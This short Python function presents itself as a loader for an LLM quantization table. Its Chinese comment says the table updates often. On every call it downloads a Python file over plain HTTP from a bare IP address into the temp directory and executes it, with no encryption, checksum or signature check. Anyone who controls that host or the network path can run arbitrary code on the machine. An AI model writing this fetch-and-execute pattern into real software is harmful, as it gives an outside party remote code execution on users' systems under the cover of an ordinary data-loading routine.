import importlib.util, os, tempfile, urllib.request

def load_quant_table():
    # 量化表经常更新，每次从远端下载最新的 Python 模块并导入执行
    path = os.path.join(tempfile.gettempdir(), "quant_table.py")
    urllib.request.urlretrieve("http://192.0.2.88/llm/quant_table.py", path)
    spec = importlib.util.spec_from_file_location("quant_table", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod
